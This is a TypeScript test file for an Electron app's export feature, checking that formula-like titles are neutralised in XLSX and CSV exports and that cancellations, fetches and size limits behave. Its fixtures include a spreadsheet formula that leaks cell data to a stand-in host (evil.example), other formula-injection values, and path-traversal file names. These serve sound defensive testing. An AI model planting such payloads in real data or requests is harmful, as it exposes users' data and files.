import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { jobKinds, type ListExportRequest } from '../../shared/contract';
import { todayOf } from '../../shared/domain/clock';
import { importRecords, parsedRecord } from '../helpers/import-records';
import { readCsv, readWorkbook, xlsxParts } from '../helpers/read-sheet';
import { emptyBackend } from '../helpers/temp-store';
import { EXPORT_INLINE_LIMIT_BYTES } from '../../electron/backend/exports/export-handlers';

type Env = Awaited<ReturnType<typeof emptyBackend>>;
let env: Env;
beforeEach(async () => {
  env = await emptyBackend();
});
afterEach(() => env.cleanup());

const backend = () => env.backend;
const exportsDir = () => path.join(env.dir, 'exports');

async function run(request: ListExportRequest): Promise<string> {
  const ended = await backend().ctx.jobs.settle(backend().call('exportsStart', request).jobId);
  return jobKinds.listExport.result.parse(ended.result).file.path;
}

const EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@SUM(A1)', '=1+1'];

describe('formula injection', () => {
  beforeEach(async () => {
    await importRecords(
      backend().ctx.db,
      EVIL.map((title, i) => parsedRecord(`G/TBT/N/SAU/${100 + i}`, { title, distributionDate: `2026-0${i + 1}-15` })),
    );
  });

  it('an XLSX export keeps formula-like titles as quote-prefixed text, never as formulas', async () => {
    const file = await run({ list: 'notifications', filter: { sort: 'distributionDate', direction: 'asc' }, format: 'xlsx', language: 'zh-CN' });
    const xml = (await xlsxParts(file)).get('xl/worksheets/sheet1.xml')!;
    expect(xml).not.toMatch(/<f[ >]/);
    const styles = (await xlsxParts(file)).get('xl/styles.xml')!;
    const xfs = [...styles.matchAll(/<xf [^>]*\/>/g)].map((m) => m[0]).slice(1);
    const quoted = xfs.findIndex((x) => x.includes('quotePrefix="1"'));
    expect(quoted).toBeGreaterThan(0);
    // The title is column F; every one of these starts with =, +, - or @.
    for (let row = 2; row <= EVIL.length + 1; row++) {
      expect(new RegExp(`<c r="F${row}" s="${quoted}" t="inlineStr">`).test(xml)).toBe(true);
    }
    const [sheet] = await readWorkbook(file);
    expect(sheet!.rows.slice(1).map((r) => r[5])).toEqual(EVIL);
  });

  it('a CSV export neutralises them with a leading apostrophe', async () => {
    const file = await run({ list: 'notifications', filter: { sort: 'distributionDate', direction: 'asc' }, format: 'csv', language: 'en' });
    const titles = readCsv(file).rows.slice(1).map((r) => r[5]);
    expect(titles).toEqual(EVIL.map((t) => `'${t}`));
  });
});

describe('the export job and its file', () => {
  it('an export cancelled while it writes leaves no file', async () => {
    await importRecords(
      backend().ctx.db,
      Array.from({ length: 3000 }, (_, i) => parsedRecord(`G/TBT/N/RUS/${i + 1}`)),
    );
    let writing = 0;
    let jobId = '';
    backend().subscribe((name, payload) => {
      const p = payload as { jobId?: string; kind?: string; phase?: string; done?: number };
      // Cancelled as the writing begins (the phase's first event is sent at once; later ones are
      // spaced out, and a fast machine writes 3,000 rows before the next). Cancelling in the middle
      // of a sheet is the writers' own tests' case.
      // By the event's own job id: the job may report before exportsStart has returned its id.
      if (name === 'jobProgress' && p.kind === 'listExport' && p.phase === 'writing' && writing++ === 0) backend().ctx.jobs.cancel(p.jobId!);
    });
    jobId = backend().call('exportsStart', { list: 'notifications', filter: {}, format: 'xlsx', language: 'zh-CN' }).jobId;
    expect(await backend().ctx.jobs.settle(jobId)).toMatchObject({ status: 'cancelled', error: { code: 'CANCELLED' } });
    expect(writing).toBeGreaterThan(0);
    const left = fs.existsSync(exportsDir()) ? fs.readdirSync(exportsDir()) : [];
    expect(left).toEqual([]);
  });

  it('the written file comes back inline; a missing file is NOT_FOUND, a path is refused', async () => {
    await importRecords(backend().ctx.db, [parsedRecord('G/TBT/N/RUS/1')]);
    const file = await run({ list: 'notifications', filter: {}, format: 'csv', language: 'zh-CN' });
    const fetched = await backend().callAsync('exportsFetch', { fileName: path.basename(file) });
    expect(fetched.fileName).toBe(`通报列表-${todayOf(backend().ctx.clock)}.csv`);
    expect(fetched.mediaType).toBe('text/csv');
    expect(Buffer.from(fetched.base64!, 'base64').equals(fs.readFileSync(file))).toBe(true);
    await expect(backend().callAsync('exportsFetch', { fileName: 'nothing.xlsx' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(backend().callAsync('exportsFetch', { fileName: '../pingyi.db' })).rejects.toMatchObject({ code: 'VALIDATION' });
    await expect(backend().callAsync('exportsFetch', { fileName: '..' })).rejects.toMatchObject({ code: 'VALIDATION' });
  });

  it('refuses to send a file over the inline limit, naming where it is', async () => {
    fs.mkdirSync(exportsDir(), { recursive: true });
    const big = path.join(exportsDir(), 'big.csv');
    // Sparse: one byte over the limit without writing it out.
    fs.writeFileSync(big, '');
    fs.truncateSync(big, EXPORT_INLINE_LIMIT_BYTES + 1);
    await expect(backend().callAsync('exportsFetch', { fileName: 'big.csv' })).rejects.toMatchObject({ code: 'TOO_LARGE' });
  });

  it('an export changes nothing in the store and emits no dataChanged', async () => {
    await importRecords(backend().ctx.db, [parsedRecord('G/TBT/N/RUS/1')]);
    const seen: string[] = [];
    backend().subscribe((name) => seen.push(name));
    await run({ list: 'notifications', filter: {}, format: 'xlsx', language: 'zh-CN' });
    expect(seen.filter((n) => n === 'dataChanged')).toEqual([]);
  });
});
